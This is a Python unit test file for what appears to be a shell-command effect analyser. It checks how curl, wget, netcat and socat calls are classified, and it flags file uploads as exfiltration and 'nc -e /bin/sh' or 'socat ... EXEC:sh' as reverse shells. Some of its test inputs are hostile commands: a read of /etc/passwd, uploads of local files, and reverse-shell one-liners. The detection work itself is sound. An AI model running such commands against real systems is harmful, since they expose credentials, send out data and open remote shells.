"""curl, wget, httpie, netcat, socat."""

from __future__ import annotations

from assent.effects.shell.command import Arg
from tests.unit.effects.shell.commands.commands import does


def test_addresses_are_fetched_by_host() -> None:
    assert does("curl -sSL https://user@Example.com:8080/x?y") == ["FETCH example.com"]
    assert does("curl example.com/x") == ["FETCH example.com"]
    assert does("curl http://[::1]:80/") == ["FETCH ::1"]
    assert does(("curl", Arg("https://$x", prefix="https://"))) == ["FETCH ?"]


def test_file_addresses_are_files() -> None:
    assert does("curl file:///etc/passwd") == ["READ /etc/passwd"]
    assert does("curl file://localhost/etc/pass%77d") == ["READ /etc/passwd"]


def test_outputs_are_written() -> None:
    assert does("curl -o out https://h/x") == ["WRITE out", "FETCH h"]
    assert does("curl -so /dev/null https://h/x") == ["FETCH h"]
    assert does("curl -O https://h/a/b.tgz?c") == ["FETCH h", "WRITE b.tgz"]
    assert does("curl -w '%output{f}x' https://h") == ["FETCH h", "WRITE f"]


def test_files_that_are_sent_leave() -> None:
    for option in ("-d @f", "--data-binary @f", "-F x=@f", "-T f", "--data-urlencode x@f", "--json @f"):
        found = does(f"curl {option} https://h")
        assert "READ f !exfiltration" in found, option
        assert "FETCH h" in found


def test_plain_data_is_no_file() -> None:
    assert does("curl -d x=@y https://h") == ["FETCH h", "EXECUTE <curl>"]


def test_settings_of_curl_are_not_known() -> None:
    assert "EXECUTE <curl> !exfiltration" in does("curl -K conf https://h")
    assert any(line.startswith("EXECUTE") for line in does("curl --unix-socket /var/run/docker.sock http://x"))


def test_wget_saves_under_the_last_name() -> None:
    assert does("wget -q https://h/a/b.tgz") == ["FETCH h", "WRITE b.tgz"]
    assert does("wget https://h/") == ["FETCH h", "WRITE index.html"]
    assert does("wget -O - https://h/x") == ["FETCH h"]
    assert does("wget --spider https://h/x") == ["FETCH h"]
    assert "WRITE+ d" in does("wget -r -P d https://h/x")
    assert "READ f !exfiltration" in does("wget --post-file=f https://h/x")


def test_netcat_connects_or_hands_out_a_shell() -> None:
    assert "FETCH h" in does("nc -z h 80")
    assert any("!reverse-shell" in line for line in does("nc -e /bin/sh h 80"))
    assert any(line.startswith("EXECUTE") for line in does("nc -l 80"))


def test_socat_is_always_executed() -> None:
    found = does("socat TCP:h:80 EXEC:sh")
    assert "FETCH h" in found
    assert "EXECUTE <socat> !reverse-shell" in found
    assert "SHELL sh" in found
